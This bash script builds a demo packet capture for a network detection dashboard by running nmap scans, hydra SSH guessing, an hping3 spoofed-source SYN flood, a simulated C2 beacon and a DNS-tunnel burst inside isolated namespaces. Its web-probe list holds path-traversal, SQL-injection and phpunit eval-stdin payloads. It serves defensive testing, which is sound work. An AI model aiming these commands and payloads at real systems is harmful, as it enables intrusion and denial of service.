#!/usr/bin/env bash
# Builds samples/demo.pcap, the capture `picket demo` replays: real traffic made by real tools
# between network namespaces, seen by an edge sensor on the router's Internet-side link.
#
#   pk-demo-lan   10.16.1.10 (nginx :80, sshd :22), 10.16.1.11 (nothing listening)
#   pk-demo-ws    10.16.2.20, 10.16.2.21 (workstations: browsing, and later a beacon and a DNS tunnel)
#   pk-demo-rtr   router 10.16.1.1 / 10.16.2.1 / 10.16.255.1 — tcpdump runs here, on the link to:
#   pk-demo-inet  "the Internet": web servers, a DNS server, a C2 server and attackers, on addresses
#                 from the documentation ranges (198.51.100.0/24, 203.0.113.0/24, no country) and
#                 public-looking addresses that the bundled GeoIP database places in DE, CN, RU, BR,
#                 KR, SG, RO, BG, ID, NL, VN, US — these exist only inside these namespaces.
#
# Phases (each recorded on its own, then laid out on a 90-minute timeline with editcap -t so the
# dashboard's 5-minute windows show bursts; packet timing inside a phase is as recorded):
#   benign   every 5 min: irregular HTTPS/HTTP browsing with DNS lookups, visitors of the web server
#   420 s    nmap SYN scan of 1000 ports from 185.220.101.34 (DE), and 24 ports of 10.16.1.11
#   900 s    hydra SSH password guessing from 61.177.172.60 (CN), 64 attempts
#   1320 s   hydra SSH from 45.155.205.233 (RU), 40 attempts
#   1500 s   telnet sweep (port 23, 12 hosts) from 121.142.87.218 (KR); 2222/8022 probes from 2.56.57.10 (SG)
#   1800 s   web probing with an sqlmap user agent from 177.54.144.9 (BR): 57 requests, traversal paths
#   2100 s   beacon: 10.16.2.20 → 194.26.29.102:443 (SNI telemetry.cdn-sync.example) every 5 s, 24 times
#   2700 s   DNS tunnel-like burst: 300 queries for random base32 names under t.tunnel.example
#   3300 s   SYN flood: hping3, 3000 SYNs with random sources to 10.16.1.10:80 (bounded by count)
#   4200 s   nmap top-100 scan from 193.32.162.41 (RO); 4500 s hydra 18 attempts from 5.188.206.14 (BG)
#   5100 s   vulnerable-path probing (zgrab user agent) from 41.216.186.89 (ID); 5340 s 40-port scan from 89.248.165.52 (NL)
#
# Needs root and: iproute2, tcpdump, editcap/mergecap/capinfos (wireshark-common), nginx, openssh-server,
# dnsmasq, nmap, hydra, hping3, curl, dnsutils (dig), openssl, ethtool. About 10 minutes. Every loop
# is bounded by a count; everything is torn down on exit.
#
#   sudo bash samples/make-demo-capture.sh [samples/demo.pcap]
set -euo pipefail
out=$(realpath -m "${1:-$(dirname "$0")/demo.pcap}")
work=$(mktemp -d /tmp/pk-demo-cap-XXXX)
NS_RTR=pk-demo-rtr
NS_LAN=pk-demo-lan
NS_WS=pk-demo-ws
NS_INET=pk-demo-inet
dump=

# Internet-side addresses (all /32 on the inet namespace's loopback).
ATTACKERS="185.220.101.34 61.177.172.60 45.155.205.233 121.142.87.218 2.56.57.10 177.54.144.9 193.32.162.41 5.188.206.14 41.216.186.89 89.248.165.52"
SERVERS="20.55.0.7 104.248.30.5 194.26.29.102 198.51.100.53 203.0.113.80 203.0.113.99"
VISITORS="198.51.100.20 198.51.100.21 203.0.113.30 164.90.200.1"

in_ns() { local ns=$1; shift; ip netns exec "$ns" "$@"; }

cleanup() {
  set +e
  [ -n "$dump" ] && kill "$dump" 2>/dev/null
  for pid in "$work"/*.pid; do [ -f "$pid" ] && kill "$(cat "$pid")" 2>/dev/null; done
  sleep 0.3
  for ns in $NS_RTR $NS_LAN $NS_WS $NS_INET; do ip netns del "$ns" 2>/dev/null; done
  rm -rf "$work"
}
trap cleanup EXIT

for ns in $NS_RTR $NS_LAN $NS_WS $NS_INET; do ip netns del "$ns" 2>/dev/null || true; ip netns add "$ns"; in_ns "$ns" ip link set lo up; done

link() { # link NS_A IF_A ADDR_A NS_B IF_B ADDR_B
  ip link add "$2" type veth peer name "$5"
  ip link set "$2" netns "$1"
  ip link set "$5" netns "$4"
  in_ns "$1" ip addr add "$3" dev "$2"
  in_ns "$4" ip addr add "$6" dev "$5"
  for side in "$1:$2" "$4:$5"; do
    in_ns "${side%%:*}" ip link set "${side##*:}" up
    # Wire-sized packets in the capture, not 64 KB offload super-packets.
    in_ns "${side%%:*}" ethtool -K "${side##*:}" tso off gso off gro off >/dev/null 2>&1 || true
  done
}
link $NS_RTR pkd-r-lan 10.16.1.1/24 $NS_LAN pkd-lan 10.16.1.10/24
link $NS_RTR pkd-r-ws 10.16.2.1/24 $NS_WS pkd-ws 10.16.2.20/24
link $NS_RTR pkd-r-inet 10.16.255.1/30 $NS_INET pkd-inet 10.16.255.2/30
in_ns $NS_LAN ip addr add 10.16.1.11/24 dev pkd-lan
in_ns $NS_WS ip addr add 10.16.2.21/24 dev pkd-ws
in_ns $NS_LAN ip route add default via 10.16.1.1
in_ns $NS_WS ip route add default via 10.16.2.1
in_ns $NS_RTR ip route add default via 10.16.255.2
in_ns $NS_RTR sysctl -qw net.ipv4.ip_forward=1
for ns in $NS_RTR $NS_LAN $NS_WS $NS_INET; do in_ns "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1; done
for a in $ATTACKERS $SERVERS $VISITORS; do in_ns $NS_INET ip addr add "$a/32" dev lo; done
in_ns $NS_INET ip route add 10.16.0.0/16 via 10.16.255.1 src 198.51.100.53
# Replies to spoofed flood sources end here silently instead of bouncing ICMP back.
in_ns $NS_INET ip route add blackhole default

# The inet source address for connections toward the LAN (nmap, hydra and nc take it from the route).
from() { in_ns $NS_INET ip route replace 10.16.0.0/16 via 10.16.255.1 src "$1"; }

# --- servers ---------------------------------------------------------------------------------
mkdir -p "$work/www-lan" "$work/www-inet" "$work/nginx-lan" "$work/nginx-inet"
echo '<html><body><h1>Example Corp intranet</h1></body></html>' > "$work/www-lan/index.html"
head -c 6000 /dev/urandom | base64 > "$work/www-lan/report.html"
echo '<html><body>shop</body></html>' > "$work/www-inet/index.html"
head -c 15000 /dev/urandom | base64 > "$work/www-inet/app.js"
echo '{"cmd":"sleep","interval":5}' > "$work/www-inet/beacon"
chmod -R a+rX "$work"
openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=shop-demo.example" \
  -addext "subjectAltName=DNS:www.shop-demo.example,DNS:static.news-demo.example,DNS:docs.docs-demo.example,DNS:telemetry.cdn-sync.example" \
  -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
nginx_conf() { # nginx_conf NAME ROOT LISTEN...
  local name=$1 root=$2; shift 2
  {
    echo "worker_processes 1; pid $work/nginx-$name.pid; error_log $work/nginx-$name.err;"
    echo "events { worker_connections 1024; }"
    echo "http { access_log off; server {"
    for l in "$@"; do echo "  listen $l;"; done
    echo "  ssl_certificate $work/cert.pem; ssl_certificate_key $work/key.pem; root $root; } }"
  } > "$work/nginx-$name.conf"
}
nginx_conf lan "$work/www-lan" 10.16.1.10:80
inet_listen=()
for a in 20.55.0.7 104.248.30.5 194.26.29.102 203.0.113.80; do inet_listen+=("$a:80" "$a:443 ssl"); done
nginx_conf inet "$work/www-inet" "${inet_listen[@]}"
in_ns $NS_LAN nginx -c "$work/nginx-lan.conf" -p "$work/nginx-lan"
in_ns $NS_INET nginx -c "$work/nginx-inet.conf" -p "$work/nginx-inet"
in_ns $NS_INET dnsmasq --no-resolv --no-hosts --listen-address=198.51.100.53 --bind-interfaces \
  --pid-file="$work/dnsmasq.pid" --log-facility=/dev/null \
  --address=/shop-demo.example/20.55.0.7 --address=/news-demo.example/104.248.30.5 \
  --address=/docs-demo.example/203.0.113.80 --address=/cdn-sync.example/194.26.29.102 --address=/tunnel.example/203.0.113.99
mkdir -p /run/sshd
ssh-keygen -q -t ed25519 -N '' -f "$work/hostkey"
in_ns $NS_LAN /usr/sbin/sshd -f /dev/null -h "$work/hostkey" -o PidFile="$work/sshd.pid" -o ListenAddress=10.16.1.10 \
  -o UsePAM=no -o PasswordAuthentication=yes -o KbdInteractiveAuthentication=no -o MaxStartups=100 -o LoginGraceTime=15 -o MaxAuthTries=6
sleep 1

# --- phases ----------------------------------------------------------------------------------
phase_n=0
declare -a PHASE_FILES PHASE_OFFSETS
record() { # record OFFSET_S NAME COMMAND...: capture the command's traffic as one phase
  local offset=$1 name=$2; shift 2
  local file; file=$(printf '%s/phase-%02d-%s.pcap' "$work" "$phase_n" "$name")
  # ip netns exec execs tcpdump in place, so $! is tcpdump itself (a function would add a shell).
  ip netns exec $NS_RTR tcpdump -q -Z root -i pkd-r-inet -s 0 -U -w "$file" 2>>"$work/tcpdump.log" & dump=$!
  sleep 0.5
  "$@" || echo "phase $name: command ended with $?" >&2
  sleep 1
  kill -INT "$dump"; wait "$dump" 2>/dev/null || true
  dump=
  PHASE_FILES[$phase_n]=$file
  PHASE_OFFSETS[$phase_n]=$offset
  phase_n=$((phase_n + 1))
  printf '%-12s at %5s s: %s packets\n' "$name" "$offset" "$(capinfos -c -M "$file" | awk '/Number of packets/ {print $NF}')" >&2
}

benign() {
  # People browse irregularly: a random number of page views, random sites, random pauses
  # (a fixed rhythm would look like a beacon to a periodicity detector).
  local round=$1 i n=$((4 + RANDOM % 4)) name addr path
  local sites=("www.shop-demo.example 20.55.0.7 /app.js" "static.news-demo.example 104.248.30.5 /" "docs.docs-demo.example 203.0.113.80 /index.html")
  for i in $(seq 1 "$n"); do
    local pick=${sites[$((RANDOM % 3))]}
    read -r name addr path <<<"$pick"
    local src=10.16.2.$((20 + RANDOM % 2))
    in_ns $NS_WS dig +short +tries=1 +time=1 -b "$src" @198.51.100.53 "$name" >/dev/null
    if [ $((RANDOM % 3)) -eq 0 ]; then
      in_ns $NS_WS curl -s -o /dev/null --interface "$src" -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/131.0' "http://$addr$path"
    else
      in_ns $NS_WS curl -sk -o /dev/null --interface "$src" -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/131.0' --resolve "$name:443:$addr" "https://$name$path"
    fi
    # Visitors of the company web server.
    if [ $((RANDOM % 2)) -eq 0 ]; then
      from "$(echo $VISITORS | cut -d' ' -f$(( (i + round + RANDOM) % 4 + 1 )))"
      in_ns $NS_INET curl -s -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://10.16.1.10/index.html
      in_ns $NS_INET curl -s -o /dev/null -A 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0' http://10.16.1.10/report.html
    fi
    sleep "$((RANDOM % 5)).$((RANDOM % 10))"
  done
}

scan() { # scan SOURCE NMAP-ARGS...
  local src=$1; shift
  from "$src"
  in_ns $NS_INET timeout 120 nmap -n -Pn -sS -T4 --max-retries 1 "$@" >/dev/null
}

brute() { # brute SOURCE ATTEMPTS
  from "$1"
  seq -f 'guess%03g' 1 "$2" > "$work/passwords"
  (cd "$work" && in_ns $NS_INET timeout 180 hydra -I -q -l admin -P "$work/passwords" -t 4 -W 1 -o /dev/null ssh://10.16.1.10 >/dev/null 2>&1) || true
}

sweep() { # sweep SOURCE PORT HOSTS...
  local src=$1 port=$2; shift 2
  from "$src"
  for h in "$@"; do in_ns $NS_INET timeout 2 nc -z -w 1 "$h" "$port" 2>/dev/null || true; done
}

webprobe() { # webprobe SOURCE USER-AGENT COUNT
  local src=$1 ua=$2 n=$3 i
  local paths=(/cgi-bin/../../../../etc/passwd /.env /wp-login.php /admin/ /phpmyadmin/index.php "/index.php?id=1%27%20OR%201=1--" /.git/config /server-status /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /actuator/env /../../windows/win.ini /index.html)
  from "$src"
  for i in $(seq 0 $((n - 1))); do
    in_ns $NS_INET curl -s -o /dev/null --path-as-is -A "$ua" "http://10.16.1.10${paths[$((i % ${#paths[@]}))]}" || true
  done
}

beacon() {
  local i
  for i in $(seq 1 24); do
    in_ns $NS_WS curl -sk -o /dev/null --interface 10.16.2.20 -A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36' \
      --resolve telemetry.cdn-sync.example:443:194.26.29.102 "https://telemetry.cdn-sync.example/beacon?id=7f3a" || true
    sleep 5
  done
}

tunnel() {
  local i name
  for i in $(seq 1 300); do
    name=$(head -c 20 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
    in_ns $NS_WS dig +short +tries=1 +time=1 -b 10.16.2.20 @198.51.100.53 "$name.$i.t.tunnel.example" A >/dev/null || true
  done
}

probes_sg() {
  sweep 2.56.57.10 2222 10.16.1.10 10.16.1.11 10.16.1.12 10.16.1.13
  sweep 2.56.57.10 8022 10.16.1.10 10.16.1.11 10.16.1.12 10.16.1.13
}

flood() {
  in_ns $NS_INET timeout 30 hping3 -q -S -p 80 --rand-source -c 3000 -i u500 10.16.1.10 >/dev/null 2>&1 || true
}

record 420 nmap-de scan 185.220.101.34 --top-ports 1000 10.16.1.10
record 480 nmap-de-2 scan 185.220.101.34 --top-ports 24 10.16.1.11
record 900 hydra-cn brute 61.177.172.60 64
record 1320 hydra-ru brute 45.155.205.233 40
record 1500 telnet-kr sweep 121.142.87.218 23 10.16.1.10 10.16.1.11 10.16.1.12 10.16.1.13 10.16.1.14 10.16.1.15 10.16.1.16 10.16.1.17 10.16.1.18 10.16.1.19 10.16.1.20 10.16.1.21
record 1560 probe-sg probes_sg
record 1800 web-br webprobe 177.54.144.9 'sqlmap/1.7.2#stable (https://sqlmap.org)' 57
record 2100 beacon beacon
record 2700 dns-tunnel tunnel
record 3300 syn-flood flood
record 4200 nmap-ro scan 193.32.162.41 --top-ports 100 10.16.1.10
record 4500 hydra-bg brute 5.188.206.14 18
record 5100 web-id webprobe 41.216.186.89 'Mozilla/5.0 zgrab/0.x' 22
record 5340 nmap-nl scan 89.248.165.52 --top-ports 40 10.16.1.10
# Background browsing every 5 minutes, recorded last (the timeline puts each phase at its offset).
for r in $(seq 0 17); do record $((r * 300 + 10 + RANDOM % 60)) "benign-$r" benign "$r"; done

# --- timeline --------------------------------------------------------------------------------
# Time zero of the timeline: 90 minutes before the first recorded phase started, so every
# packet lies in the past when the capture is made (the dashboard then shows it as recent history).
first_start=$(capinfos -a -S -T -r "${PHASE_FILES[0]}" | awk -F'\t' -v o="${PHASE_OFFSETS[0]}" '{printf "%.6f", $2 - o - 5400}')
shifted=()
for i in "${!PHASE_FILES[@]}"; do
  f=${PHASE_FILES[$i]}
  start=$(capinfos -a -S -T -r "$f" | awk -F'\t' '{print $2}')
  delta=$(awk -v b="$first_start" -v o="${PHASE_OFFSETS[$i]}" -v s="$start" 'BEGIN { printf "%.6f", b + o - s }')
  editcap -t "$delta" "$f" "$f.shifted" 
  shifted+=("$f.shifted")
done
mergecap -F pcap -w "$out" "${shifted[@]}"
chmod a+r "$out"
capinfos -c -d -u -M "$out" >&2
